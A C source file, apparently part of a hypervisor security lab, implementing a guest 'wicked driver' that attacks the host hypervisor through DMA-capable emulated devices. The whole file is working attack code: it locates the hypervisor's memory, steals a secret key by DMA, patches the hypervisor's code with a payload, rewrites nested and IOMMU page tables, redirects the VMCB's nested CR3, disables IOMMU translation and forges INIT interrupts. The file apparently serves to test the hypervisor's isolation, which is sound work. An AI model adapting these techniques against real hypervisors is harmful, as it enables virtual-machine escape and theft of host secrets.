/*
 * The wicked driver: everything a guest can try against the hypervisor below it by programming a device.
 *
 * It knows what everybody can know: how the core lays its memory out (hvcore/vmm/layout.py), and what the machine tells it.  It says what
 * it does; whether it got anywhere is read off the machine.  What it steals lies in `loot`.
 */
#include "lab.h"

enum { ALIGN = 4 << 20, KEY = 32, TEXT_SIZE = 512, SPARE_TEXT = 0x800, PIECE = 256, ENGINES = 2 };
enum { TEXT = 0x0000, DATA = 0x1000, VMCB = 0x2000, SECRET = 0x9000, DATA_VMCB = 0x00, DATA_N_CR3 = 0x60, VMCB_N_CR3 = 0xb0 };
enum { PRESENT = 1, WRITE = 2, USER = 4, LARGE = 0x80, READ_WRITE = 3 };
enum { CAP = 0x08, GCMD = 0x18, GSTS = 0x1c, RTADDR = 0x20, PMEN = 0x64 };
#define ADDRESS 0x000ffffffffff000ull
#define TES (1u << 31)
#define MIB2 (2ull << 20)
#define GIB (1ull << 30)
#define MSI_ADDRESS 0xfee00000ul
#define MSI_INIT 0x4500u /* INIT, asserted: it resets a processor */

struct engine {
	const char *name;
	bool (*find)(void);
	bool (*fetch)(u64 address, void *data, unsigned length);
	bool (*store)(u64 address, const void *data, unsigned length);
	bool (*message)(u64 address, u32 data);
	u16 (*source)(void);
};

static bool edu_message(u64 address, u32 data) { return edu_store(address, &data, sizeof(data)); }

static const struct engine engines[ENGINES] = {
	{ "edu", edu_present, edu_fetch, edu_store, edu_message, edu_source },
	{ "nvme", nvme_present, nvme_fetch, nvme_store, nvme_message, nvme_source },
};
static const struct engine *engine;
static u64 core;

struct mark {
	u64 signature, cr3, hsave, count;
};
static struct mark mark __attribute__((aligned(64)));
static u8 loots[ENGINES][KEY] __attribute__((aligned(64))), *loot = loots[0];
static u8 text[TEXT_SIZE];
static u64 own_tables[2][512] __attribute__((aligned(4096)));

extern const u8 payload[], payload_mark[], payload_mark_again[], payload_back[], payload_end[];

static void say_bytes(const u8 *data, unsigned length)
{
	for (unsigned i = 0; i < length; i++)
		print("%02x", data[i]);
	print("\n");
}

static void say_loot(const char *by)
{
	print("attack: %u bytes at 0x%lx by %s: ", KEY, core + SECRET, by);
	say_bytes(loot, KEY);
	print("attack: loot at 0x%lx\n", (u64)loot);
}

static bool fetch(u64 address, void *data, unsigned length, const char *what)
{
	unsigned done = 0, size;

	for (; done < length; done += size) {
		size = length - done < PIECE ? length - done : PIECE;
		if (!engine->fetch(address + done, (u8 *)data + done, size))
			break;
	}
	if (done == length)
		return true;
	print("attack: %s at 0x%lx does not come by %s\n", what, address, engine->name);
	return false;
}

static bool store(u64 address, const void *data, unsigned length, const char *what)
{
	print("attack: %u bytes to 0x%lx by %s: %s\n", length, address, engine->name, what);
	return engine->store(address, data, length);
}

static bool fetch64(u64 address, u64 *value, const char *what)
{
	if (!fetch(address, value, sizeof(*value), what))
		return false;
	print("attack: %s at 0x%lx is 0x%016lx\n", what, address, *value);
	return true;
}

static bool store64(u64 address, u64 value, const char *what)
{
	return store(address, &value, sizeof(value), what);
}

/* An exit to the core; false where nobody answers. */
static bool leave(void)
{
	u64 rax = 0;

	return try_vmmcall(&rax);
}

/* --- where the core is: behind the end of usable memory, in no entry; it reads 0 and keeps no write */

static bool in_map(u64 address)
{
	for (unsigned i = 0; i < boot.entries; i++)
		if (address >= boot.e820[i].base && address - boot.e820[i].base < boot.e820[i].length)
			return true;
	return false;
}

static bool hides(u64 address)
{
	u64 value = 1;

	return !in_map(address) && try_read(address, 8, &value) && !value && try_write(address, 8, ~0ull)
		&& try_read(address, 8, &value) && !value;
}

static bool find_core(void)
{
	core = 0;
	if (!leave()) {
		print("attack: no core answers\n");
		return false;
	}
	for (unsigned i = 0; i < boot.entries; i++) {
		u64 end = (boot.e820[i].base + boot.e820[i].length + ALIGN - 1) & ~(ALIGN - 1ul);

		if (boot.e820[i].type == E820_USABLE && end < 4 * GIB && end > core && hides(end))
			core = end;
	}
	if (core)
		print("attack: the core begins at 0x%lx: behind usable memory, reads 0, keeps no write\n", core);
	else
		print("attack: no core is to be found\n");
	return core;
}

static void steal(const char *by)
{
	if (fetch(core + SECRET, loot, KEY, "the key"))
		say_loot(by);
}

static void steal_by_cpu(void)
{
	if (try_copy(loot, core + SECRET, KEY))
		say_loot("the CPU");
	else
		print("attack: %s when the CPU reads 0x%lx\n", fault_name(), core + SECRET);
}

/* --- the attacks */

static void steal_key(void)
{
	steal(engine->name);
}

/* The branch back to the guest behind the policy's door: JE rel32, HLT. */
static unsigned find_branch(void)
{
	for (unsigned i = 0; i + 7 <= TEXT_SIZE; i++)
		if (text[i] == 0x0f && text[i + 1] == 0x84 && text[i + 6] == 0xf4)
			return i;
	return 0;
}

static u32 from_text(unsigned at)
{
	u32 value;

	memcpy(&value, text + at, sizeof(value));
	return value;
}

static void overwrite_stub(void)
{
	static u8 code[128];
	unsigned size = payload_end - payload, back = payload_back - payload, branch;
	u64 at = (u64)&mark;
	u32 way;

	mark = (struct mark){ 0 };
	if (!fetch(core + TEXT, text, TEXT_SIZE, "the stub"))
		memset(text, 0, TEXT_SIZE);
	branch = find_branch();
	way = branch + 6 + from_text(branch + 2) - (SPARE_TEXT + back + 4);
	memcpy(code, payload, size);
	memcpy(code + (payload_mark - payload), &at, sizeof(at));
	memcpy(code + (payload_mark_again - payload), &at, sizeof(at));
	memcpy(code + back, &way, sizeof(way));
	if (!store(core + TEXT + SPARE_TEXT, code, size, "code that leaves a mark"))
		return;
	way = SPARE_TEXT - (branch + 6);
	if (branch)
		store(core + TEXT + branch + 2, &way, sizeof(way), "the way to it");
	leave();
	print("attack: mark at 0x%lx: 0x%016lx, CR3 0x%lx, VM_HSAVE_PA 0x%lx, %lu times\n", at, mark.signature, mark.cr3, mark.hsave,
	      mark.count);
}

/* Host-physical address of the level-`level` nested entry for `address`; 0 where it cannot be read or is not there. */
static u64 nested_slot(u64 address, unsigned level)
{
	u64 entry;

	if (!fetch64(core + DATA + DATA_N_CR3, &entry, "the root of the nested tables"))
		return 0;
	for (unsigned l = 3; l > level; l--) {
		u64 slot = (entry & ADDRESS) + 8 * (address >> (12 + 9 * l) & 511);

		if (!fetch64(slot, &entry, "a nested entry") || !(entry & PRESENT) || (entry & LARGE))
			return 0;
	}
	return (entry & ADDRESS) + 8 * (address >> (12 + 9 * level) & 511);
}

static void open_nested_page(void)
{
	u64 slot = nested_slot(core, 1);

	if (!slot) /* Where nothing is to be read the first tables are tried, as in the core's source: behind its root. */
		slot = core + 0x10000;
	if (store64(slot, (core & ~(MIB2 - 1)) | PRESENT | WRITE | USER | LARGE, "a nested entry that maps the core"))
		steal_by_cpu();
}

/* The second-level entry for `address` in the tables at `table`, at the level where the walk ends. */
static u64 second_level_slot(u64 table, unsigned levels, u64 address, u64 *entry)
{
	for (unsigned l = levels; l-- > 0;) {
		u64 slot = (table & ADDRESS) + 8 * (address >> (12 + 9 * l) & 511);

		if (!fetch64(slot, entry, "a second-level entry"))
			return 0;
		if (!l || (*entry & LARGE))
			return slot;
		if (!(*entry & READ_WRITE))
			return 0;
		table = *entry;
	}
	return 0;
}

static void rewrite_entry(u64 root)
{
	u16 source = engine->source();
	u64 entry, low, high, slot;

	if (!fetch64(root + 16 * (source >> 8), &entry, "the root entry")
	    || !fetch64((entry & ADDRESS) + 16 * (source & 0xff), &low, "the context entry")
	    || !fetch64((entry & ADDRESS) + 16 * (source & 0xff) + 8, &high, "its high half"))
		return;
	slot = second_level_slot(low, (high & 7) + 2, core + SECRET, &entry);
	if (slot)
		store64(slot, ((core + SECRET) & ~0xfffull) | READ_WRITE, "a second-level entry that grants the key's page");
}

static void rewrite_iommu_entry(void)
{
	u64 units[8];
	unsigned count = dmar_units(units, ARRAY_SIZE(units));

	for (unsigned i = 0; i < count; i++) {
		u64 root = read32(units[i] + RTADDR) | (u64)read32(units[i] + RTADDR + 4) << 32;

		print("attack: unit 0x%lx: GSTS 0x%08x, RTADDR 0x%lx\n", units[i], read32(units[i] + GSTS), root);
		if (!(read32(units[i] + GSTS) & TES) && read32(units[i] + CAP))
			print("attack: it does not translate, there is no entry to rewrite\n");
		else if (!root) /* hidden: where the tables would begin */
			store64(core + 0x10000, core | READ_WRITE, "a word that could be an entry");
		else
			rewrite_entry(root & ADDRESS);
	}
	steal(engine->name);
}

static void redirect_vmcb(void)
{
	u64 vmcb;

	for (unsigned i = 0; i < 512; i++)
		own_tables[1][i] = i * GIB | PRESENT | WRITE | USER | LARGE;
	own_tables[0][0] = (u64)own_tables[1] | PRESENT | WRITE | USER;
	if (!fetch64(core + DATA + DATA_VMCB, &vmcb, "the VMCB's address"))
		vmcb = core + VMCB;
	if (!store64(vmcb + VMCB_N_CR3, (u64)own_tables[0], "N_CR3, tables of the guest's own"))
		return;
	leave();
	steal_by_cpu();
}

static void clear_te(void)
{
	u64 units[8];
	unsigned count = dmar_units(units, ARRAY_SIZE(units));

	for (unsigned i = 0; i < count; i++) {
		u32 before = read32(units[i] + GSTS);

		write32(units[i] + GCMD, 0);
		write32(units[i] + PMEN, 0);
		print("attack: unit 0x%lx: GSTS 0x%08x, after a store of 0 to GCMD 0x%08x\n", units[i], before, read32(units[i] + GSTS));
	}
	steal(engine->name);
}

static void forge_interrupt(void)
{
	print("attack: interrupt message 0x%08x to 0x%lx by %s\n", MSI_INIT, MSI_ADDRESS, engine->name);
	engine->message(MSI_ADDRESS, MSI_INIT);
}

/* Cards that were at work before the core: what they hold now. */
static void before_te(void)
{
	const struct engine *only = engine;

	for (unsigned i = 0; i < ENGINES; i++) {
		engine = &engines[i];
		loot = loots[i];
		if ((only && only != engine) || !engine->find())
			continue;
		print("attack: what %s holds that was at work before the core:\n", engine->name);
		if (engine->fetch == edu_fetch ? edu_buffer(loot, KEY) : nvme_block(nvme.blocks - 2, loot, KEY))
			say_loot(engine->name);
		else
			print("attack: it does not hand it over\n");
	}
	loot = loots[0];
}

static const struct attack {
	const char *name;
	void (*run)(void);
} attacks[] = {
	{ "steal-key", steal_key },
	{ "overwrite-stub", overwrite_stub },
	{ "open-nested-page", open_nested_page },
	{ "rewrite-iommu-entry", rewrite_iommu_entry },
	{ "redirect-vmcb", redirect_vmcb },
	{ "clear-te", clear_te },
	{ "forge-interrupt", forge_interrupt },
	{ "before-te", before_te },
};

/* Whether the device reaches the guest's own memory: one that does not is no weapon. */
static bool works(const struct engine *e)
{
	static const u64 known = 0x123456789abcdef0;
	u64 value = 0;

	return e->find() && e->fetch((u64)&known, &value, sizeof(value)) && value == known;
}

/* The first device that works, else the first there is.  What a device holds is left as it is where it is not to be `tried`. */
static bool find_engine(const char *name, bool tried)
{
	const struct engine *first = NULL;

	engine = NULL;
	for (unsigned i = ENGINES; i-- > 0;) {
		const struct engine *e = &engines[i];

		if ((name && !equal(name, e->name)) || !e->find())
			continue;
		first = e;
		if (tried && works(e))
			engine = e;
	}
	if (!engine)
		engine = first;
	if (!engine)
		print("attack: no device for it%s%s\n", name ? ": " : "", name ? name : "");
	return engine;
}

void attack(const char *name, const char *device)
{
	memset(loots, 0, sizeof(loots));
	for (unsigned i = 0; i < ARRAY_SIZE(attacks); i++) {
		if (!equal(name, attacks[i].name))
			continue;
		if (find_engine(device, attacks[i].run != before_te) && find_core()) {
			if (!device && attacks[i].run == before_te)
				engine = NULL; /* all of them */
			attacks[i].run();
			print("attack: %s is over\n", name);
		}
		return;
	}
	print("attack: no attack %s; there are:", name);
	for (unsigned i = 0; i < ARRAY_SIZE(attacks); i++)
		print(" %s", attacks[i].name);
	print("\n");
}
